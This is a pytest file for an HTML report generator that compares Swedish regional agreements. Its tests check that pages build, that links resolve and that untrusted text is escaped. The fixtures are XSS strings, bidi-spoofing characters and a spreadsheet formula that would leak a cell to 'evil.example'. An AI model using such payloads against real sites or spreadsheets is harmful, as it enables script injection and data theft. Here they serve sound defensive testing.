"""The HTML report: every page is written, every link resolves, document text is always escaped."""

from __future__ import annotations

import json
import re
import sqlite3
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from typer.testing import CliRunner

from rok_compare.cli import app
from rok_compare.model import Commitment
from rok_compare.report import ReportError, build_report
from rok_compare.report.manifest import MANIFEST
from rok_compare.report.markup import esc
from rok_compare.store import Store, ingest
from rok_compare.store.reuse import recompute_reuse_clusters
from rok_compare.store.testing import make_agreement
from rok_compare.store.write import write_agreement

SEEDS = Path(__file__).resolve().parent.parent / "corpus" / "seeds"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
HOSTILE_CLAUSES = [
    f"Parterna ska {SCRIPT} säkerställa att alla nyanlända erbjuds en hälsoundersökning inom två veckor.",
    f"Länsstyrelsen ansvarar för samordningen {IMG} av insatserna för nyanlända i hela länet.",
    'Kommunen erbjuder samhällsorientering "på modersmålet" & <b>fet</b> text </td></tr></table>.',
    "Regionen ansvarar för tolkstöd i vården \u202efdp.exe\u202c och \u2067arabiska\u2069 informationsblad.",
]
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")'
"""A cell a spreadsheet would run: CSV downloads must neutralise it (OWASP's CSV injection)."""
FORMULA_PARTY = "@SUM(1+1) Kommun"
PAGES = ["index.html", "documents.html", "parties.html", "themes.html", "similarity.html", "reuse.html",
         "compare.html", "timeline.html", "search.html", "search-data.js", "search.js", "style.css"]


def build_site(tmp: Path) -> tuple[Path, Path]:
    """A store of the seeds plus two hostile revisions of one county and a document whose text and
    party names are spreadsheet formulas, and the site built from it."""
    db = tmp / "rok.db"
    ingest([SEEDS], db, workers=1)
    with Store.open(db) as store:
        for year, extra in ((2020, "Uppföljning sker årligen."), (2024, "Uppföljning sker varje halvår.")):
            agreement = make_agreement(tmp / f"hostile_{year}.txt", [*HOSTILE_CLAUSES, extra],
                                       county=("Gotlands län", "09"), period=(year, year + 3),
                                       parties=["Migrationsverket", f"Evil {IMG} AB"])
            agreement.title = f"Överenskommelse {SCRIPT}"
            write_agreement(store, agreement, path=f"hostile_{year}_{IMG}.txt")
        formula = make_agreement(tmp / "formula_2021.txt", [f"{FORMULA} ska erbjuda tolk.",
                                                             "-2+3 kommuner ansvarar för mottagandet av nyanlända."],
                                 county=("Hallands län", "13"), period=(2021, 2022),
                                 parties=[FORMULA_PARTY, "Migrationsverket"])
        formula.title = "+Formula title"
        formula.commitments.append(Commitment(FORMULA_PARTY, f"{FORMULA} ansvarar för tolkning.", "guarantee",
                                              formula.clauses[0].span))
        write_agreement(store, formula, path="formula_2021.txt")
        recompute_reuse_clusters(store)
    out = tmp / "site"
    build_report(db, out)
    return db, out


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return build_site(tmp_path_factory.mktemp("report"))


class _Links(HTMLParser):
    """Collects href/src attributes and the contents of <script> elements."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.scripts: list[dict[str, str | None]] = []
        self.inline: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for name in ("href", "src"):
            if values.get(name):
                self.links.append(values[name] or "")
        if tag == "script":
            self.scripts.append(values)
            self._in_script = True
        if tag == "img" or any(name.startswith("on") for name in values):
            raise AssertionError(f"unexpected <{tag}> with {values}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.inline.append(data)


def _pages(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


def test_every_page_exists(site: tuple[Path, Path]) -> None:
    db, out = site
    for name in PAGES:
        assert (out / name).is_file(), name
    with sqlite3.connect(db) as conn:
        ids = [row[0] for row in conn.execute("SELECT id FROM documents")]
    assert len(ids) == 8
    for doc_id in ids:
        assert (out / "doc" / f"{doc_id}.html").is_file()
    compares = list((out / "compare").glob("*.html"))
    assert compares, "no side-by-side comparison written"
    timeline = (out / "timeline.html").read_text(encoding="utf-8")
    assert "What changed" in timeline  # the two dated revisions of one county are compared


def test_every_internal_link_resolves_and_nothing_loads_from_the_network(site: tuple[Path, Path]) -> None:
    _, out = site
    checked = 0
    for page in _pages(out):
        parser = _Links()
        parser.feed(page.read_text(encoding="utf-8"))
        assert not parser.inline, f"{page}: inline script"
        assert all(s.get("src") for s in parser.scripts), f"{page}: script without src"
        for target in parser.links:
            parts = urlsplit(target)
            assert not parts.scheme and not parts.netloc, f"{page}: external link {target}"
            if not parts.path:  # a fragment on the same page
                continue
            resolved = (page.parent / unquote(parts.path)).resolve()
            assert resolved.is_file(), f"{page}: broken link {target}"
            assert out.resolve() in resolved.parents, f"{page}: link outside the site {target}"
            checked += 1
    assert checked > 100


def test_hostile_text_is_escaped_in_every_page(site: tuple[Path, Path]) -> None:
    _, out = site
    for page in _pages(out):
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text and "<img" not in text and "<b>fet" not in text, page
        assert "</td></tr></table>." not in text, page
        assert not any(ch in text for ch in BIDI), f"{page}: a bidi control would reorder the text"
    with sqlite3.connect(site[0]) as conn:
        doc_id = conn.execute("SELECT id FROM documents WHERE path LIKE 'hostile_2024%'").fetchone()[0]
    page = (out / "doc" / f"{doc_id}.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert "&lt;b&gt;fet&lt;/b&gt;" in page
    assert 'class="bidi"' in page and "[U+202E]</span>fdp.exe" in page and "[U+2067]</span>arabiska" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (out / "reuse.html").read_text(encoding="utf-8")


def test_search_data_holds_no_markup_but_the_literal_text(site: tuple[Path, Path]) -> None:
    _, out = site
    script = (out / "search-data.js").read_text(encoding="utf-8")
    assert "<" not in script and ">" not in script.replace("=>", "")
    payload = json.loads(re.fullmatch(r"window\.ROK_SEARCH = (.*);\n", script, re.S).group(1))
    texts = [clause[3] for clause in payload["clauses"]]
    assert any(SCRIPT in t for t in texts) and any(IMG in t for t in texts)
    assert any(SCRIPT in d["title"] for d in payload["documents"].values())
    search_js = (out / "search.js").read_text(encoding="utf-8")
    assert "innerHTML" not in search_js and "insertAdjacentHTML" not in search_js


def test_rebuild_removes_pages_of_deleted_documents(tmp_path: Path) -> None:
    db, out = build_site(tmp_path)
    stale = out / "doc" / "9999.html"
    stale.write_text("old", encoding="utf-8")
    # As an earlier build that had document 9999 would have listed it; a page the report did not
    # write is never deleted (issue 12, see tests/test_hardening_report.py).
    manifest = json.loads((out / MANIFEST).read_text(encoding="utf-8"))
    manifest["files"].append("doc/9999.html")
    (out / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    users = out / "doc" / "users-own.html"
    users.write_text("mine", encoding="utf-8")
    summary = build_report(db, out)
    assert not stale.exists()
    assert users.read_text(encoding="utf-8") == "mine"
    assert summary.index == out / "index.html" and summary.documents == 8


def test_report_cli_prints_where_to_open_it(site: tuple[Path, Path], tmp_path: Path) -> None:
    db, _ = site
    out = tmp_path / "cli-site"
    result = CliRunner().invoke(app, ["report", "--db", str(db), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"open {out / 'index.html'}" in result.output
    assert (out / "index.html").is_file()


@pytest.mark.parametrize("case", ["missing", "foreign", "out-is-file"])
def test_report_cli_errors_are_one_line(case: str, site: tuple[Path, Path], tmp_path: Path) -> None:
    db, out = site[0], tmp_path / "out"
    if case == "missing":
        db = tmp_path / "missing.db"
    elif case == "foreign":
        db = tmp_path / "foreign.db"
        with sqlite3.connect(db) as conn:
            conn.execute("CREATE TABLE t (x)")
    else:
        out.write_text("not a folder", encoding="utf-8")
    result = CliRunner().invoke(app, ["report", "--db", str(db), "--out", str(out)])
    assert result.exit_code != 0
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
    assert "Traceback" not in result.output


def test_build_report_refuses_a_file_as_output(site: tuple[Path, Path], tmp_path: Path) -> None:
    target = tmp_path / "file"
    target.write_text("x", encoding="utf-8")
    with pytest.raises(ReportError):
        build_report(site[0], target)


class _Anchors(HTMLParser):
    """Each <a>'s attributes and text, and the tables' attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.anchors: list[tuple[dict[str, str | None], str]] = []
        self.tables: list[dict[str, str | None]] = []
        self._open: list[tuple[dict[str, str | None], list[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self._open.append((dict(attrs), []))
        elif tag == "table":
            self.tables.append(dict(attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._open:
            attrs, text = self._open.pop()
            self.anchors.append((attrs, " ".join("".join(text).split())))

    def handle_data(self, data: str) -> None:
        for _, text in self._open:
            text.append(data)


def _parse(page: Path) -> _Anchors:
    parser = _Anchors()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser


def _doc_rows(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT id, path, title, county_name, period_start FROM documents ORDER BY id").fetchall()


def test_every_clause_has_a_stable_anchor_and_search_links_to_it(site: tuple[Path, Path]) -> None:
    db, out = site
    with sqlite3.connect(db) as conn:
        clauses = conn.execute("SELECT document_id, id FROM clauses").fetchall()
    assert len(clauses) > 100
    pages: dict[int, str] = {}
    for doc_id, clause_id in clauses:
        page = pages.setdefault(doc_id, (out / "doc" / f"{doc_id}.html").read_text(encoding="utf-8"))
        assert f'id="clause-{clause_id}"' in page, (doc_id, clause_id)
    payload = json.loads(re.fullmatch(r"window\.ROK_SEARCH = (.*);\n", (out / "search-data.js").read_text(
        encoding="utf-8"), re.S).group(1))
    assert sorted(c[6] for c in payload["clauses"]) == sorted(cid for _, cid in clauses)
    reuse = _parse(out / "reuse.html")
    targets = [a["href"] for a, _ in reuse.anchors if a.get("href") and "#clause-" in a["href"]]
    assert targets, "reuse members link to their clauses"
    for target in targets:
        path, anchor = target.split("#")
        assert f'id="{anchor}"' in (out / path).read_text(encoding="utf-8"), target


def test_documents_are_named_by_title_county_year_and_type_never_by_county_alone(site: tuple[Path, Path]) -> None:
    from rok_compare.report.data import load

    db, out = site
    data = load(db)
    labels = [d.label for d in data.documents]
    assert len(set(labels)) == len(labels), "two documents with one label"
    hostile = next(d for d in data.documents if d.path.startswith("hostile_2020"))
    assert hostile.label == f"Överenskommelse {SCRIPT} · Gotlands län · 2020–2023 · regional agreement"
    undated = [d for d in data.documents if d.period_start is None]
    assert undated and all(" · undated · " in d.label for d in undated)
    bare = {f"{d.county_label} · {d.period or 'undated'} · {d.type_label}" for d in data.documents}
    bare |= {f"{a} ~ {b}" for a in bare for b in bare}
    checked = 0
    for page in ("reuse.html", "compare.html", "timeline.html", "documents.html", *(
            p.relative_to(out).as_posix() for p in (out / "compare").glob("*.html"))):
        for _attrs, text in _parse(out / page).anchors:
            assert text not in bare, f"{page}: a document named by its county alone: {text}"
            checked += 1
    compare_page = next((out / "compare").glob("*.html")).read_text(encoding="utf-8")
    a, b = (int(x) for x in next((out / "compare").glob("*.html")).stem.split("-"))
    for doc_id in (a, b):
        assert esc(data.by_id[doc_id].label) in compare_page
    assert checked > 50


def test_every_table_is_a_working_table(site: tuple[Path, Path]) -> None:
    _, out = site
    tables = 0
    for page in _pages(out):
        parsed = _parse(page)
        for attrs in parsed.tables:
            assert attrs.get("data-table"), f"{page}: a table tables.js does not enhance"
            tables += 1
        text = page.read_text(encoding="utf-8")
        assert 'src="' in text and "tables.js" in text and "links.js" in text, page
    assert tables > 40
    documents = (out / "documents.html").read_text(encoding="utf-8")
    assert 'data-type="year"' in documents and 'data-filter data-key="county"' in documents
    script = (out / "tables.js").read_text(encoding="utf-8")
    assert "innerHTML" not in script and "insertAdjacentHTML" not in script and "eval(" not in script


def test_a_page_per_party_with_its_documents_commitments_and_counties(site: tuple[Path, Path]) -> None:
    db, out = site
    with sqlite3.connect(db) as conn:
        parties = [row[0] for row in conn.execute("SELECT DISTINCT canonical FROM parties")]
        signed = {row[0] for row in conn.execute(
            "SELECT document_id FROM parties WHERE canonical = 'Migrationsverket'")}
        own = [row[0] for row in conn.execute("SELECT text FROM commitments WHERE party = ?", (FORMULA_PARTY,))]
    pages = list((out / "party").glob("*.html"))
    assert len(pages) == len(parties)
    migrationsverket = _parse(out / "party" / "migrationsverket.html")
    linked = {int(a["href"].rsplit("/", 1)[-1].split(".")[0].split("#")[0]) for a, _ in migrationsverket.anchors
              if a.get("href", "").startswith("../doc/")}
    assert signed <= linked
    counties = {a["href"] for a, _ in migrationsverket.anchors if a.get("href", "").startswith("../county/")}
    assert "../county/09.html" in counties and "../county/13.html" in counties
    formula_page = next(p for p in pages if "sum-1-1" in p.name).read_text(encoding="utf-8")
    assert own and all(esc(text) in formula_page for text in own)
    assert 'data-sort="5"' in formula_page and "guarantee" in formula_page  # the strength sorts by its level
    parties_page = _parse(out / "parties.html")
    assert {a["href"].split("#")[0] for a, _ in parties_page.anchors if a.get("href", "").startswith("party/")} == {
        f"party/{p.name}" for p in pages}


def test_county_pages_and_drill_down_links(site: tuple[Path, Path]) -> None:
    _, out = site
    gotland = (out / "county" / "09.html").read_text(encoding="utf-8")
    assert "Versions of the same agreement" in gotland and 'data-compare="' in gotland
    similarity = _parse(out / "similarity.html")
    cells = [a for a, _ in similarity.anchors if a.get("data-compare")]
    assert cells, "no heatmap cell leads to a comparison"
    for attrs in cells:
        a, b = attrs["data-compare"].split(",")
        if attrs.get("href"):
            assert attrs["href"] in (f"compare/{a}-{b}.html", f"compare/{b}-{a}.html")
    assert any(a.get("href", "").startswith("county/") for a, _ in similarity.anchors)
    themes = _parse(out / "themes.html")
    assert any("&county=" in a.get("href", "") for a, _ in themes.anchors), "theme × county cells open the search"
    parties = _parse(out / "parties.html")
    assert any("#county=" in a.get("href", "") for a, _ in parties.anchors), "party × county cells open the party"


def test_the_timeline_shows_lineages_and_each_revision_is_one_click_away(site: tuple[Path, Path]) -> None:
    db, out = site
    with sqlite3.connect(db) as conn:
        old, new = (conn.execute("SELECT id FROM documents WHERE path LIKE ?", (f"hostile_{y}%",)).fetchone()[0]
                    for y in (2020, 2024))
    timeline = _parse(out / "timeline.html")
    diffs = [(a["href"], text) for a, text in timeline.anchors if a.get("class") == "revision-diff"]
    assert (f"compare/{old}-{new}.html", "What changed: 2020–2023 → 2024–2027") in diffs
    page = (out / "compare" / f"{old}-{new}.html").read_text(encoding="utf-8")
    assert "Revision:" in page
    assert (out / "doc" / f"{old}.html").read_text(encoding="utf-8").count(f"compare/{old}-{new}.html") == 1


def test_comparisons_aligned_in_worker_processes_are_the_same(site: tuple[Path, Path], tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from rok_compare.report import aligning

    db, out = site
    monkeypatch.setattr(aligning, "MIN_PER_WORKER", 1)  # the seeds have few pairs: use the pool anyway
    summary = build_report(db, tmp_path / "pooled", workers=2)
    pages = sorted(p.name for p in (out / "compare").glob("*.html"))
    assert summary.comparisons == len(pages) >= 2
    for name in pages:
        assert (tmp_path / "pooled" / "compare" / name).read_text(encoding="utf-8") == \
            (out / "compare" / name).read_text(encoding="utf-8"), name
